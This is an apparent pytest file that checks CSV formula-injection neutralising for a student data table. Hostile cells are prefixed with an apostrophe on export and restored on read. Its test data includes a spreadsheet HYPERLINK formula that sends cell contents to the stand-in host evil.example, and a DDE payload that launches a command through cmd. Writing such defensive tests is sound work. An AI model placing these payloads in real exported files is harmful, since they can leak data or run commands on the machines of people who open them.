"""CSV files people open in a spreadsheet never carry a live formula (docs/reliability.md, "Hostile data")."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd

from risk_assets.csv_cells import neutralise_text, restore
from risk_assets.metrics.student_table import read_students_csv, to_csv_bytes
from risk_assets.vocabulary import STUDENT_COLUMN_KINDS, STUDENT_COLUMNS

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
           "김민준", "O'Brien", "'quoted"]


def _students(names: list[str]) -> pd.DataFrame:
    n = len(names)
    frame = pd.DataFrame({name: (np.zeros(n, dtype=np.int64) if kind == "integer" else
                                 pd.array([pd.NA] * n, dtype="Int64") if kind == "nullable_integer" else
                                 np.full(n, -0.5) if kind == "number" else np.full(n, "OK", dtype=object))
                          for name, kind in STUDENT_COLUMN_KINDS.items()})
    frame["student_id"] = np.arange(1, n + 1)
    frame["display_name"] = names
    frame["class_name"] = "=1+1"
    frame["reason_codes"] = ""
    return frame[STUDENT_COLUMNS]


def test_students_csv_marks_formula_cells_and_reads_back_the_names(tmp_path):
    data = to_csv_bytes(_students(HOSTILE))

    written = pd.read_csv(io.BytesIO(data), keep_default_na=False, dtype=str)
    assert written["display_name"].tolist() == [
        "'" + HOSTILE[0], "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tTAB", " CR", "김민준", "O'Brien", "'quoted"]
    assert set(written["class_name"]) == {"'=1+1"}
    assert set(written["delta_7d"]) == {"-0.5"}, "numbers are never marked"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for column in ("display_name", "class_name") for cell in written[column])

    path = tmp_path / "students.csv"
    path.write_bytes(data)
    back = read_students_csv(path)
    assert back["display_name"].tolist() == [*HOSTILE[:5], " CR", *HOSTILE[6:]]  # a line break is a space
    assert set(back["class_name"]) == {"=1+1"}


def test_neutralise_keeps_nulls_and_restore_is_its_inverse():
    frame = pd.DataFrame({"org_name": ["=cmd|' /C calc'!A0", None, "학교"]})
    safe = neutralise_text(frame, ["org_name"])
    assert safe["org_name"].tolist()[0] == "'=cmd|' /C calc'!A0" and pd.isna(safe["org_name"][1])
    assert restore(safe["org_name"]).tolist()[::2] == ["=cmd|' /C calc'!A0", "학교"]
